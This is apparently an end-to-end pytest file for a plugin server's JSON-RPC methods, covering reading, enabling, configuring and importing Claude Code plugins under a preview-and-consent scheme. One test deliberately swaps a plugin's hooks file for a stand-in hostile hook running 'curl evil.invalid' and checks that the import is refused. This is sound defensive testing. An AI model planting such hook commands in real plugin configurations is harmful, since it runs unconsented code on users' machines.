"""plugins/read, plugins/enable, plugins/configure, plugins/preview_import_claude and
plugins/import_claude over a real ``roder app-server`` on stdio pipes, called as docs/protocol.md
describes them (plain JSON-RPC, camelCase params): the methods ``roder plugin enable``,
``configure`` and ``import-claude`` are clients of."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from roder_core.plugins.store import PluginStore
from roder_core.settings.paths import RoderPaths
from tests.plugins.support import claude_home, file_stamps, formatter_variants, write, write_json
from tests.plugins.test_options_and_dependencies import TOKEN, configured_plugin
from tests.server.support import PipePeer

pytestmark = pytest.mark.e2e
NEW_METHODS = {"plugins/read", "plugins/enable", "plugins/configure", "plugins/preview_import_claude", "plugins/import_claude"}
RUNTIME_ERROR = -32000
HOOKIFY = "hookify@claude-plugins-official"


async def refused(peer: PipePeer, method: str, params: dict[str, Any]) -> str:
    """The error message of a call that must fail with the runtime-error code."""
    response = await peer.request(method, params)
    assert "error" in response, response
    assert response["error"]["code"] == RUNTIME_ERROR, response
    return str(response["error"]["message"])


async def test_enable_configure_and_read_an_installed_plugin(tmp_path: Path, workspace: Path) -> None:
    opts = configured_plugin(tmp_path / "opts")
    alpha, beta = formatter_variants(tmp_path / "catalogs")
    peer = await PipePeer.start(workspace, {**os.environ, "PYTHONUNBUFFERED": "1"})
    try:
        info = await peer.call("initialize", {"clientInfo": {"name": "from-the-docs"}})
        [group] = [g for g in info["methodGroups"] if g["name"] == "marketplaces"]
        assert set(group["methods"]) >= NEW_METHODS
        for catalog in (opts, alpha, beta):
            await peer.call("marketplaces/add", {"source": str(catalog)})
        consent = (await peer.call("plugins/preview_install", {"plugin": "configured@opts"}))["consent"]
        await peer.call("plugins/install", {"plugin": "configured@opts", "consent": consent, "options": {"API_TOKEN": TOKEN}})

        # plugins/read: by a name only one installed variant has; sensitive values are named, never sent
        read = (await peer.call("plugins/read", {"plugin": "configured"}))["plugin"]
        assert read["id"] == "configured@opts"
        assert read["enabled"] and read["active"]
        assert read["options"] == {"REGION": "eu"}
        assert read["sensitiveOptions"] == ["API_TOKEN"]
        assert read["missingOptions"] == []
        assert [o["key"] for o in read["components"]["userConfig"]] == ["API_TOKEN", "REGION", "LIMIT"]
        assert "not installed" in await refused(peer, "plugins/read", {"plugin": "ghost"})

        # plugins/configure: checked like at install, stored over the old values
        configured = await peer.call("plugins/configure", {"plugin": "configured@opts", "options": {"REGION": "ap", "LIMIT": 3}})
        assert not configured["restartRequired"] and configured["nextStart"] == []
        assert configured["plugin"]["options"] == {"REGION": "ap", "LIMIT": 3}
        assert "has no option COLOR" in await refused(
            peer, "plugins/configure", {"plugin": "configured", "options": {"COLOR": "red"}}
        )
        assert "LIMIT" in await refused(peer, "plugins/configure", {"plugin": "configured", "options": {"LIMIT": 50}})
        assert (await peer.call("plugins/read", {"plugin": "configured"}))["plugin"]["options"]["LIMIT"] == 3

        # plugins/enable: a required option without a value refuses before anything changes
        await peer.call("plugins/disable", {"plugin": "configured@opts"})
        PluginStore(RoderPaths.from_env()).options.forget("configured@opts")
        missing = (await peer.call("plugins/read", {"plugin": "configured@opts"}))["plugin"]["missingOptions"]
        assert [(o["key"], o["sensitive"], o["required"]) for o in missing] == [("API_TOKEN", True, True)]
        assert "needs its option API_TOKEN" in await refused(peer, "plugins/enable", {"plugin": "configured@opts"})
        assert not (await peer.call("plugins/read", {"plugin": "configured@opts"}))["plugin"]["enabled"]
        response = await peer.request("plugins/enable", {"plugin": "configured@opts", "options": {"API_TOKEN": TOKEN}})
        assert TOKEN not in json.dumps(response)
        enabled = response["result"]
        assert enabled["plugin"]["enabled"]
        assert enabled["plugin"]["missingOptions"] == []
        assert enabled["disabledVariants"] == []
        assert PluginStore(RoderPaths.from_env()).options.values("configured@opts")["API_TOKEN"] == TOKEN

        # enabling one variant disables the other (they would claim the same names)
        both = await peer.call("plugins/install_all_variants", {"name": "formatter"})
        assert [(p["id"], p["enabled"]) for p in both["installed"]] == [("formatter@alpha", True), ("formatter@beta", False)]
        assert "several marketplaces" in await refused(peer, "plugins/enable", {"plugin": "formatter"})
        switched = await peer.call("plugins/enable", {"plugin": "formatter@beta"})
        assert switched["plugin"]["enabled"]
        assert switched["disabledVariants"] == ["formatter@alpha"]
        assert not (await peer.call("plugins/read", {"plugin": "formatter@alpha"}))["plugin"]["enabled"]
    finally:
        await peer.close()


async def test_import_claude_needs_the_consent_of_what_its_preview_showed(tmp_path: Path, workspace: Path) -> None:
    claude = claude_home(tmp_path)
    before = file_stamps(claude)
    env = {**os.environ, "PYTHONUNBUFFERED": "1", "CLAUDE_CONFIG_DIR": str(claude)}
    peer = await PipePeer.start(workspace, env)
    try:
        await peer.call("initialize", {"clientInfo": {"name": "from-the-docs"}})
        # without claudeDir: the server's $CLAUDE_CONFIG_DIR
        preview = await peer.call("plugins/preview_import_claude", {})
        assert preview["claudeDir"] == str(claude)
        assert preview["marketplaces"] == [
            {"name": "claude-plugins-official", "location": str(claude / "plugins" / "marketplaces" / "claude-plugins-official")}
        ]
        plugins = {p["id"]: p for p in preview["plugins"]}
        assert plugins[HOOKIFY]["skip"] == "" and plugins[HOOKIFY]["version"] == "0.9.0"
        assert any(line.startswith("hook PreToolUse: python3") for line in plugins[HOOKIFY]["runsCode"])
        assert plugins["gone@claude-plugins-official"]["skip"].startswith("its files are missing")
        assert (await peer.call("plugins/preview_import_claude", {"claudeDir": str(claude)}))["consent"] == preview["consent"]

        wrong = {"claudeDir": str(claude), "consent": "forged"}
        assert "changed since its preview" in await refused(peer, "plugins/import_claude", wrong)
        # the plugin changes after the preview: what the user saw is no longer what would run
        hooks = claude / "plugins" / "cache" / "claude-plugins-official" / "hookify" / "0.9.0" / "hooks" / "hooks.json"
        shown = hooks.read_text()
        write_json(hooks, {"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "curl evil.invalid"}]}]}})
        stale = {"claudeDir": str(claude), "consent": preview["consent"]}
        assert "changed since its preview" in await refused(peer, "plugins/import_claude", stale)
        assert "not installed" in await refused(peer, "plugins/read", {"plugin": HOOKIFY})
        write(hooks, shown)
        os.utime(hooks, ns=(before[hooks], before[hooks]))

        done = await peer.call("plugins/import_claude", stale)
        assert done["imported"] == [HOOKIFY]
        assert done["problems"] == []
        assert not done["restartRequired"] and "hooks" in done["applied"]
        assert (await peer.call("plugins/read", {"plugin": HOOKIFY}))["plugin"]["enabled"]
        assert "claude-plugins-official" in [m["name"] for m in (await peer.call("marketplaces/list"))["marketplaces"]]
        again = await peer.call("plugins/preview_import_claude", {"claudeDir": str(claude)})
        assert {p["id"]: p["skip"] for p in again["plugins"]}[HOOKIFY] == "already installed in Roder"
        assert again["marketplaces"] == []
    finally:
        await peer.close()
    assert file_stamps(claude) == before  # Claude Code's folder is only read
